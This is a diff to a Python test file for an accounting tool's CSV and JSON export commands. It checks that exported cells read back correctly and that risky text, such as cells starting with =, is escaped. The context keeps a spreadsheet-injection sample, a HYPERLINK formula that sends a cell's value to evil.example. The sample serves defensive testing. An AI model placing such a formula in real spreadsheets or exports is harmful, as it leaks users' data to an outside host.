@@ -12,18 +12,24 @@ from pathlib import Path
 from uuid import UUID
 
 import attrs
+import typer
 from test_beancount_ledger import issue, manual_line
 from typer.testing import CliRunner
 
 from q2c_adapters.accounting.exports import (
+    PLAIN_COLUMNS,
     export,
     from_spreadsheet_text,
     spreadsheet_text,
 )
 from q2c_adapters.cli import app as cli
+from q2c_adapters.cli_accounting import register
 from q2c_core import Money, QuoteToCash, TaxRate
 
 runner = CliRunner()
+exports_cli = typer.Typer()
+exports_cli.callback()(lambda: None)
+register(exports_cli)
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Pay here")'
 RISKY = [
@@ -183,3 +189,51 @@ def test_a_reference_that_looks_like_a_number_keeps_its_zeros_as_text() -> None:
         assert row["reference"] == "'" + reference, reference
         assert from_spreadsheet_text(row["reference"]) == reference
         assert row["amount"] == "10.00" and row["allocation_amount"] == "10.00"
+        # q2c's own ids (an allocation's is 32 hex digits, often a digit first) are written plain
+        (payment,) = app.payments(app.customers()[0].id)
+        assert row["allocation_allocation_id"] == payment.allocations[0].allocation_id
+
+
+def _expected(record: dict[str, object], column: str, cell: str) -> object:
+    """What a CSV cell stands for, to compare with the JSON's value."""
+    if cell == "":
+        return record.get(column) if record.get(column) in (None, "") else cell
+    if cell in ("true", "false") and column.endswith("live"):
+        return cell == "true"
+    if column in PLAIN_COLUMNS:
+        return cell
+    assert cell == spreadsheet_text(from_spreadsheet_text(cell)), (column, cell)  # written safe
+    return from_spreadsheet_text(cell)
+
+
+def test_every_csv_cell_of_a_written_file_reads_back_as_the_json_says(tmp_path: Path) -> None:
+    """``q2c export invoices|payments --out``: the files, read back with Python's csv module,
+    hold in every cell what the JSON export holds (text with its ' taken off), also for a
+    remittance of two lines, a CR in a name and references that start with =, - or 0."""
+    url = f"sqlite:///{tmp_path / 'q2c.db'}"
+    app = QuoteToCash.open(url)
+    _acme_with_risky_text(app, name="\r=Acme\n'Bakers'", reference="=1+1\r\nINV 0012\nthanks")
+    _acme_with_risky_text(app, name="0012 Holding", reference="-0012")
+    app.close()
+    for subject, nested in (("invoices", ["lines"]), ("payments", ["allocations", "refunds"])):
+        prefixes = {"lines": "line_", "allocations": "allocation_", "refunds": "refund_"}
+        written = {}
+        for fmt in ("csv", "json"):
+            out = tmp_path / f"{subject}.{fmt}"
+            args = ["export", subject, "--url", url, "--format", fmt, "--out", str(out)]
+            result = runner.invoke(exports_cli, args)
+            assert result.exit_code == 0, result.output
+            written[fmt] = out
+        with written["csv"].open(newline="", encoding="utf-8") as f:
+            rows = list(csv.DictReader(f))
+        expected: list[dict[str, object]] = []
+        for record in json.loads(written["json"].read_text(encoding="utf-8")):
+            own = {k: v for k, v in record.items() if not isinstance(v, list)}
+            parts = [
+                {prefixes[n] + k: v for k, v in part.items()} for n in nested for part in record[n]
+            ]
+            expected += [{**own, **part} for part in parts or [{}]]
+        assert len(rows) == len(expected) > 1
+        for row, want in zip(rows, expected, strict=True):
+            for column, cell in row.items():
+                assert _expected(want, column, cell) == want.get(column), (column, cell)
